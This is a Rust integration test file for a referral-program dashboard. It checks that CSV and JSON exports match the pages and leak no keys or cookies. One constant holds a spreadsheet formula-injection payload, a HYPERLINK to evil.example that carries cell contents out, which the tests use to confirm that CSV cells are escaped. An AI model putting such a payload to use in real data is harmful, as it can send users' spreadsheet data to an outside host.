//! Short tables as files: row by row what their page shows, of the days and of the ledger it shows them of.

use super::filing::{column, json};
use referral::instant::{DAY_MS, Instant as Moment};
use serde_json::{Map, Value, json};
use std::thread;
use std::time::{Duration, Instant};
use tests::desk::Desk;
use tests::house::House;
use tests::program::Program;
use tests::visitor::Visitor;

/// What a spreadsheet would compute.
const FORMULA: &str = "=HYPERLINK(\"https://evil.example/?\"&A1,\"x\")";

/// The texts between two marks of a page, as somebody reads them.
fn between(page: &str, from: &str, to: &str) -> Vec<String> {
    let plain = |text: &str| {
        [("&#34;", "\""), ("&#39;", "'"), ("&#60;", "<"), ("&#62;", ">"), ("&#38;", "&")]
            .iter()
            .fold(text.to_owned(), |text, (escaped, plain)| text.replace(escaped, plain))
    };
    page.split(from).skip(1).map(|rest| plain(rest.split(to).next().unwrap_or_default())).collect()
}

/// A list of a page by what it is called: the part behind its heading.
#[track_caller]
fn section<'a>(page: &'a str, id: &str) -> &'a str {
    let mark = format!("aria-labelledby=\"{id}\"");
    let rest = page.split_once(&mark).unwrap_or_else(|| panic!("{id} is not on {page}")).1;
    rest.split("</section>").next().unwrap_or_default()
}

/// A column of a JSON file as texts; nothing is empty.
fn texts(rows: &[Map<String, Value>], name: &str) -> Vec<String> {
    let text = |value: &Value| match value {
        Value::Null => String::new(),
        Value::String(text) => text.clone(),
        other => other.to_string(),
    };
    rows.iter().map(|row| text(&row[name])).collect()
}

/// The rows of a file of a program, after both formats were seen to say the same.
#[track_caller]
fn file(desk: &mut Desk<'_>, path: &str) -> Vec<Map<String, Value>> {
    let (name, query) =
        path.split_once('?').map_or((path, String::new()), |(name, query)| (name, format!("?{query}")));
    let csv = desk.get(&format!("{name}.csv{query}"));
    assert_eq!((csv.status, csv.header("content-type")), (200, Some("text/csv; charset=utf-8")), "{path}");
    let named = csv.header("content-disposition").unwrap_or_default().to_owned();
    assert!(named.starts_with("attachment; filename=\"") && named.ends_with(".csv\""), "{path}: {named}");
    let rows = json(&desk.page(&format!("{name}.json{query}")));
    for column_name in rows.first().into_iter().flat_map(|row| row.keys()) {
        let cells = column(&csv.text(), column_name);
        for (cell, value) in cells.iter().zip(texts(&rows, column_name)) {
            assert!(*cell == value || cell.strip_prefix('\'') == Some(&value), "{path}: {cell:?} {value:?}");
            assert!(!cell.starts_with('='), "{path}: {cell:?} computes");
        }
        assert_eq!(cells.len(), rows.len(), "{path}: {column_name}");
    }
    rows
}

/// What numbers add up to.
fn sum(numbers: &[String]) -> u64 {
    numbers.iter().filter_map(|number| number.parse::<u64>().ok()).sum()
}

/// Waits until so many clicks are counted.
#[track_caller]
fn counted(program: &Program, count: usize) {
    let started = Instant::now();
    loop {
        let body = program.server().get("/v1/clicks?limit=100").expect(200);
        let there = body["data"].as_array().map_or(0, Vec::len);
        if there == count {
            return;
        }
        assert!(started.elapsed() < Duration::from_secs(10), "{there} of {count} clicks were counted");
        thread::sleep(Duration::from_millis(20));
    }
}

#[test]
fn the_tables_of_the_overview_are_files_of_the_days_it_shows() {
    let house = House::shared();
    let program = Program::open_with(
        &house,
        &json!({"terms": {"hold_days": 0, "rewards": [
            {"id": "share", "on": "sale", "to": "referrer", "pay": {"share_bps": 1000}},
        ]}}),
    );
    let server = program.server();
    for (code, name) in [("ada", FORMULA), ("bob", "Bob")] {
        server.post("/v1/referrers", &json!({ "code": code, "name": name })).expect(201);
    }
    let opened = server.get("/v1/program").expect(200)["created_at"].as_str().and_then(Moment::parse);
    let opened = opened.expect("an instant");
    let sale = |order: &str, code: &str, amount: u64, ago_days: i64| {
        let mut sale = json!({"order_id": order, "customer_id": format!("of {order}"), "amount": amount,
            "currency": "EUR", "code": code});
        if ago_days > 0 {
            sale["occurred_at"] = json!(opened.plus_ms(-ago_days * DAY_MS).to_string());
        }
        server.post("/v1/sales", &sale).expect(201);
    };
    sale("one", "ada", 9900, 0);
    sale("two", "ada", 1200, 0);
    sale("three", "bob", 500, 0);
    sale("old", "bob", 50_000, 20);
    server.post("/v1/leads", &json!({"customer_id": "l", "code": "bob"})).expect(201);
    let clicks = [
        ("whatsapp", "DE"),
        ("whatsapp", "FR"),
        ("email", "DE"),
        ("", "AT"),
        ("", "ES"),
        ("", "IT"),
        ("", "NL"),
        ("", "PL"),
    ];
    for (at, (channel, country)) in clicks.into_iter().enumerate() {
        let visitor = Visitor::new(&house, &format!("203.0.113.{}", 100 + at)).with("cf-ipcountry", country);
        let query = if channel.is_empty() { String::new() } else { format!("?gwc={channel}") };
        visitor.follow(&format!("{}{query}", program.link("ada")));
    }
    counted(&program, clicks.len());
    let mut desk = Desk::open(&house, program.key("secret_live"));
    let at = "/dashboard/live";
    for (days, best) in [(7, FORMULA), (30, "Bob"), (90, "Bob")] {
        let page = desk.page(&format!("{at}?days={days}"));
        for (table, label) in [
            ("days", "Numbers of every day"),
            ("funnel", "From seen to rewarded"),
            ("leaders", "Who brings most"),
            ("channels", "Where clicks come from"),
            ("countries", "Countries"),
        ] {
            for (format, called) in [("csv", "CSV"), ("json", "JSON")] {
                let link = format!(
                    "<a href=\"{at}/{table}.{format}?days={days}\" download aria-label=\"{label}, {called}\">"
                );
                assert!(page.contains(&link), "{link}: {page}");
            }
        }
        let leaders = file(&mut desk, &format!("{at}/leaders?days={days}"));
        let shown = section(&page, "leaders");
        assert_eq!(texts(&leaders, "referrer_name"), between(shown, "dir=\"auto\">", "</a>"), "{days}");
        assert_eq!(leaders[0]["referrer_name"], best, "{days}");
        let said = |row: &Map<String, Value>| format!("Leads {} · Sales {}", row["leads"], row["sales"]);
        assert_eq!(leaders.iter().map(said).collect::<Vec<_>>(), between(shown, "<span>", "</span>"));
        let sold = leaders.iter().map(|row| row["revenue_decimal"].as_str().unwrap_or_default().to_owned());
        let read =
            between(shown, "<strong>", "\u{a0}EUR</strong>").into_iter().map(|sum| sum.replace(',', ""));
        assert_eq!(sold.collect::<Vec<_>>(), read.collect::<Vec<_>>(), "{days}");
        for (table, of, twice, count, alone) in
            [("channels", "channel", "whatsapp", 3, 3), ("countries", "country", "DE", 7, 5)]
        {
            let rows = file(&mut desk, &format!("{at}/{table}?days={days}"));
            let (read, shown) =
                (texts(&rows, "clicks"), between(section(&page, table), "<strong>", "</strong>"));
            let rest = usize::from(alone < count);
            assert_eq!((rows.len(), shown.len()), (count, alone + rest), "{table}: {rows:?}");
            assert_eq!(read[..alone], shown[..alone], "{table}: {rows:?}");
            assert_eq!(sum(&read), sum(&shown), "{table}: the page adds up the rest, its file has every row");
            assert!(rows.iter().any(|row| row[of] == twice && row["clicks"] == 2), "{table}: {rows:?}");
        }
        let steps = file(&mut desk, &format!("{at}/funnel?days={days}"));
        assert_eq!(
            texts(&steps, "count"),
            between(section(&page, "funnel"), "<strong>", "</strong>"),
            "{days}"
        );
        assert_eq!(file(&mut desk, &format!("{at}/days?days={days}")).len(), 2 * days);
    }
    let leaders = desk.page(&format!("{at}/leaders.csv?days=7"));
    assert_eq!(column(&leaders, "referrer_name"), [format!("'{FORMULA}").as_str(), "Bob"]);
    // The twin's are the twin's, and say so.
    assert!(file(&mut desk, "/dashboard/test/leaders").is_empty());
    let named = desk.get("/dashboard/test/channels.csv").header("content-disposition").map(str::to_owned);
    let start = format!("attachment; filename=\"{}-test-channels-20", program.slug);
    assert!(named.as_deref().unwrap_or_default().starts_with(&start), "{named:?}");
    for path in ["leaders.xml", "leaders", "others.csv", "keys.csv.json"] {
        assert_eq!(desk.get(&format!("{at}/{path}")).status, 404, "{path}");
    }
}

#[test]
fn keys_and_sessions_are_files_without_a_secret_in_them() {
    let house = House::shared();
    let program = Program::open(&house);
    let server = program.server();
    let made = server.post("/v1/keys", &json!({"kind": "secret"})).expect(201);
    let gone = server.post("/v1/keys", &json!({"kind": "publishable"})).expect(201);
    server.delete(&format!("/v1/keys/{}", gone["id"].as_str().unwrap_or_default())).expect(200);
    let mut other = Desk::open(&house, made["key"].as_str().unwrap_or_default());
    let mut desk = Desk::open(&house, program.key("secret_live"));
    let page = desk.page("/dashboard/live/settings");
    let keys = file(&mut desk, "/dashboard/live/keys");
    assert_eq!(texts(&keys, "id"), between(section(&page, "keys"), "<span class=\"sub\"><code>", "</code>"));
    assert!(!texts(&keys, "id").contains(&gone["id"].as_str().unwrap_or_default().to_owned()), "it is over");
    let shown = texts(&keys, "key").into_iter().filter(|key| !key.is_empty()).collect::<Vec<_>>();
    assert_eq!(shown, between(section(&page, "keys"), "<code class=\"long\">", "</code>"));
    assert!(shown.iter().all(|key| key.starts_with("pk_live_")), "{shown:?}");
    let own = |rows: &[Map<String, Value>]| rows.iter().filter(|row| row["own"] == true).count();
    assert_eq!(own(&keys), 1);
    let sessions = file(&mut desk, "/dashboard/live/sessions");
    let others = |rows: &[Map<String, Value>]| {
        rows.iter().filter(|row| row["own"] == false).map(|row| row["id"].clone()).collect::<Vec<_>>()
    };
    let ends = between(section(&page, "sessions"), "/settings/sessions/", "\"");
    assert_eq!((others(&sessions), own(&sessions)), (ends.into_iter().map(Value::from).collect(), 1));
    assert!(sessions.iter().any(|row| row["key_id"] == made["id"]), "{sessions:?}");
    assert_eq!(own(&file(&mut other, "/dashboard/live/sessions")), 1);
    assert_ne!(others(&file(&mut other, "/dashboard/live/sessions")), others(&sessions), "each its own");
    for table in ["keys", "sessions"] {
        for format in ["csv", "json"] {
            let text = desk.page(&format!("/dashboard/live/{table}.{format}"));
            let cookies = desk.cookies.values().chain(other.cookies.values()).map(String::as_str);
            let secrets = ["sk_live_", "hash", program.key("secret_live")];
            for secret in secrets.into_iter().chain(cookies) {
                assert!(!text.contains(secret), "{table}.{format} shows {secret}: {text}");
            }
        }
    }
}

#[test]
fn the_library_groups_and_a_statement_are_files_with_the_rows_of_their_pages() {
    let house = House::shared();
    let program = Program::open(&house);
    let server = program.server();
    let ada = program.referrer("ada")["id"].as_str().unwrap_or_default().to_owned();
    let group = server.post("/v1/groups", &json!({"name": "@friends", "terms": {"rewards": []}})).expect(201);
    for asset in [
        json!({"kind": "text", "title": FORMULA, "text": "+1, says everybody", "group_id": group["id"]}),
        json!({"kind": "file", "title": "The leaflet", "url": "https://shop.example/leaflet.pdf"}),
    ] {
        server.post("/v1/assets", &asset).expect(201);
    }
    for (order, day) in [("one", "2026-01-02"), ("two", "2026-01-03")] {
        let at = format!("{day}T10:00:00Z");
        let sale = json!({"order_id": order, "customer_id": order, "amount": 9000, "currency": "EUR",
            "code": "ada", "occurred_at": at});
        server.post("/v1/sales", &sale).expect(201);
    }
    let mut desk = Desk::open(&house, program.key("secret_live"));
    let page = desk.page("/dashboard/live/links");
    let assets = file(&mut desk, "/dashboard/live/assets");
    assert_eq!(texts(&assets, "title"), between(section(&page, "library"), "<h3 dir=\"auto\">", "</h3>"));
    assert_eq!(texts(&assets, "title"), ["The leaflet", FORMULA], "newest first");
    assert_eq!(texts(&assets, "group"), ["", "@friends"]);
    let csv = desk.page("/dashboard/live/assets.csv");
    for (name, cell) in [
        ("title", format!("'{FORMULA}")),
        ("text", "'+1, says everybody".to_owned()),
        ("group", "'@friends".to_owned()),
    ] {
        assert_eq!(column(&csv, name)[1], cell);
    }
    let page = desk.page("/dashboard/live/settings/groups");
    assert!(
        page.contains("href=\"/dashboard/live/groups.csv\" download aria-label=\"Groups of referrers, CSV\"")
    );
    let groups = json(&desk.page("/dashboard/live/groups.json"));
    assert_eq!(
        texts(&groups, "name"),
        between(&page, "<h2><a href=\"", "</a>")
            .iter()
            .map(|link| { link.rsplit('>').next().unwrap_or_default().to_owned() })
            .collect::<Vec<_>>()
    );
    // A statement has the same rows for people and for programs.
    let at = format!("/dashboard/live/referrers/{ada}");
    assert!(desk.page(&at).contains(&format!("href=\"{at}/statement.json\" download")));
    let csv = desk.page(&format!("{at}/statement.csv"));
    let rows = json(&desk.page(&format!("{at}/statement.json")));
    for (title, name) in
        [("At", "at"), ("Kind", "kind"), ("Subject", "subject"), ("Amount", "amount_decimal")]
    {
        assert_eq!(column(&csv, title), texts(&rows, name), "{name}");
    }
    assert!(rows.len() >= 2, "{rows:?}");
    assert_eq!(desk.get("/dashboard/live/referrers/rfr_0000000000000000/statement.json").status, 404);
}
